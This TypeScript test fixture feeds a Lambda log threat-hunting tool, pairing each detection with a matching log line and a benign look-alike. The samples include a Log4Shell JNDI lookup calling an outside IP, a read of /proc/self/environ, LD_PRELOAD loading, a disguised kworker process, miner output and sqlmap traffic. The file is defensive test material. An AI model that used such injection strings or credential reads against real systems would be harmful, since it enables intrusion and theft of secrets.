/** For each hunt a log that has what it looks for, and one that only looks like it. */
import type { LogEvent } from '../../src/contracts/log-event.ts';

const BASE = Date.parse('2025-06-30T09:00:00Z');
const MINUTE = 60_000;
const HOUR = 3_600_000;

export interface Pair {
  readonly has: readonly LogEvent[];
  readonly resembles: readonly LogEvent[];
}

export function at(ms: number, message: string, logStream = 'one'): LogEvent {
  return { timestamp: BASE + ms, logStream, message };
}

function id(number: number): string {
  return `00000000-0000-4000-8000-${String(number).padStart(12, '0')}`;
}

function report(ms: number, { stream = 'one', duration = 20, used = 80, number = 1 } = {}): LogEvent {
  return at(
    ms,
    `REPORT RequestId: ${id(number)}\tDuration: ${duration}.12 ms\tBilled Duration: ${duration + 1} ms\tMemory Size: 512 MB\tMax Memory Used: ${used} MB\t`,
    stream,
  );
}

/** One invocation: START, what the handler says, END, REPORT. */
function invocation(ms: number, number: number, said: readonly string[], stream = 'one'): LogEvent[] {
  return [
    at(ms, `START RequestId: ${id(number)} Version: $LATEST`, stream),
    ...said.map((line) => at(ms + 1, line, stream)),
    at(ms + 2, `END RequestId: ${id(number)}`, stream),
    report(ms + 3, { stream, number }),
  ];
}

function one(has: string, resembles: string): Pair {
  return { has: [at(0, has)], resembles: [at(0, resembles)] };
}

function times<T>(count: number, make: (index: number) => T): T[] {
  return Array.from({ length: count }, (_, index) => make(index));
}

const init = (ms: number, stream: string, arn = 'arn:aws:lambda:eu-central-1::runtime:aaaa'): LogEvent =>
  at(ms, `INIT_START Runtime Version: nodejs:22.v40\tRuntime Version ARN: ${arn}`, stream);
const denied = (ms: number, action: string): LogEvent =>
  at(
    ms,
    `AccessDenied: User: arn:aws:sts::111122223333:assumed-role/checkout-role/checkout is not authorized to perform: ${action} on resource: *`,
  );

export const LOGS: Readonly<Record<string, Pair>> = {
  'memory-jump': {
    has: [
      ...times(10, (index) => report(index, { stream: `s${index}`, used: 90 })),
      report(99, { stream: 'mining', used: 509 }),
    ],
    resembles: times(10, (index) => report(index, { stream: `s${index}`, used: 480 })),
  },
  'duration-drift': {
    has: [
      ...times(5, (hour) => times(50, (index) => report(hour * HOUR + index * MINUTE, { duration: 20 }))).flat(),
      ...times(50, (index) => report(5 * HOUR + index * MINUTE, { duration: index % 3 === 0 ? 2900 : 20 })),
    ],
    resembles: times(6, (hour) =>
      times(50, (index) => report(hour * HOUR + index * MINUTE, { duration: index === 7 ? 1800 : 20 })),
    ).flat(),
  },
  'runtime-killed': one(
    `RequestId: ${id(1)} Error: Runtime exited with error: signal: killed Runtime.ExitError`,
    'payment of customer 7 timed out after waiting; process exited gracefully',
  ),
  'reset-in-place': {
    has: [init(0, 'one'), init(5 * MINUTE, 'one')],
    resembles: [init(0, 'one'), init(5 * MINUTE, 'two')],
  },
  'shell-errors': one('/bin/sh: 1: nc: not found', 'item 7: not found, permission denied for customer'),
  'download-chatter': one(
    '  % Total    % Received % Xferd  Average Speed   Time',
    'Total 5, received 5; saving to table orders; agent curl-like',
  ),
  'miner-output': one(
    '[2025-06-30 09:00:00.000]  cpu  accepted (12/0) diff 120001 (45 ms)',
    'invitations accepted (3/5), speed 10 items',
  ),
  'encoded-blobs': one(
    `payload=${Buffer.from('\u007fELF').toString('base64').slice(0, 5)}RgEBAAAAAAAAAAA${'Aa0+/'.repeat(50)}`,
    `digest ${'0123456789abcdef'.repeat(16)}`,
  ),
  'secrets-printed': one(
    'using AKIAQNZ3XAMPLD7WPCVT for the bucket',
    'roll-out in ASIA region 7, example key AKIAIOSFODNN7EXAMPLE',
  ),
  'injection-payloads': one(
    'search for ${jndi:ldap://203.0.113.9/a}',
    'status done; id 42, see ../lib/cart.js; select a union member',
  ),
  'sandbox-aware': one('read /proc/self/environ of the host', 'connected to 127.0.0.1:9000, /proc/net/tcp read'),
  'unknown-extension': one(
    'EXTENSION\tName: helper-svc\tState: Ready\tEvents: [INVOKE, SHUTDOWN]',
    'EXTENSION\tName: datadog-agent\tState: Ready\tEvents: [INVOKE, SHUTDOWN]',
  ),
  'rare-runtime': {
    has: [
      ...times(40, (index) => init(index, `s${index}`)),
      init(99, 'odd', 'arn:aws:lambda:eu-central-1::runtime:bbbb'),
    ],
    resembles: [
      ...times(20, (index) => init(index, `s${index}`)),
      ...times(20, (index) => init(HOUR + index, `t${index}`, 'arn:aws:lambda:eu-central-1::runtime:cccc')),
    ],
  },
  'handler-silent': {
    has: times(10, (index) => invocation(index * MINUTE, index, index < 6 ? ['order handled'] : [])).flat(),
    resembles: times(10, (index) => invocation(index * MINUTE, index, [])).flat(),
  },
  'read-only-writes': one(
    "Error: EROFS: read-only file system, open '/var/task/index.mjs'",
    "Error: EACCES: permission denied, open '/tmp/cache.lock'",
  ),
  'loader-abuse': one(
    "ERROR: ld.so: object '/tmp/a.so' from LD_PRELOAD cannot be preloaded: ignored.",
    "Error: Cannot find module './cart' Require stack: - /var/task/index.js",
  ),
  'permission-probing': {
    has: [denied(0, 's3:ListAllMyBuckets'), denied(1000, 'iam:ListRoles'), denied(2000, 'secretsmanager:ListSecrets')],
    resembles: times(200, (index) => denied(index * 1000, 'dynamodb:PutItem')),
  },
  'scanner-agents': one(
    'GET /login user-agent: sqlmap/1.8#stable',
    'GET /login user-agent: Mozilla/5.0 (X11; Linux x86_64) ELB-HealthChecker/2.0',
  ),
  'long-lived': {
    has: times(9 * 12, (index) => report(index * 5 * MINUTE, {})),
    resembles: times(2 * 12, (index) => report(index * 5 * MINUTE, {})),
  },
  'never-seen-before': {
    has: [
      ...times(400, (index) => at(index * 1000, `order ${index} of customer ${index * 7} handled`)),
      at(399_500, 'spawned /tmp/.x/kworker with pid 77'),
    ],
    resembles: times(400, (index) =>
      at(
        index * 1000,
        `order ${index} of customer ${id(index)} handled in "${'x'.repeat(index % 9)}", total 0x${index.toString(16)}`.replace(
          /0x[0-9a-f]+/u,
          String(index),
        ),
      ),
    ),
  },
};

/** The same in the JSON log format, for the hunts that read lines of the platform. */
export const JSON_LOGS: Readonly<Record<string, readonly LogEvent[]>> = {
  'memory-jump': [
    ...times(10, (index) =>
      at(
        index,
        JSON.stringify({
          time: 't',
          type: 'platform.report',
          record: {
            requestId: id(index),
            metrics: { durationMs: 20, memorySizeMB: 512, maxMemoryUsedMB: 90 },
            status: 'success',
          },
        }),
        `s${index}`,
      ),
    ),
    at(
      99,
      JSON.stringify({
        time: 't',
        type: 'platform.report',
        record: {
          requestId: id(99),
          metrics: { durationMs: 20, memorySizeMB: 512, maxMemoryUsedMB: 510 },
          status: 'success',
        },
      }),
      'mining',
    ),
  ],
  'reset-in-place': times(2, (index) =>
    at(
      index,
      JSON.stringify({
        time: 't',
        type: 'platform.initStart',
        record: { initializationType: 'on-demand', runtimeVersionArn: 'arn:a' },
      }),
    ),
  ),
  'unknown-extension': [
    at(
      0,
      JSON.stringify({
        time: 't',
        type: 'platform.extension',
        record: { name: 'helper-svc', state: 'Ready', events: ['INVOKE'] },
      }),
    ),
  ],
  'runtime-killed': [
    at(0, JSON.stringify({ time: 't', type: 'platform.report', record: { requestId: id(1), status: 'timeout' } })),
  ],
  'never-seen-before': [
    at(
      0,
      JSON.stringify({
        time: 't',
        type: 'platform.logsDropped',
        record: { droppedBytes: 12_345, droppedRecords: 123, reason: 'slow' },
      }),
    ),
  ],
};
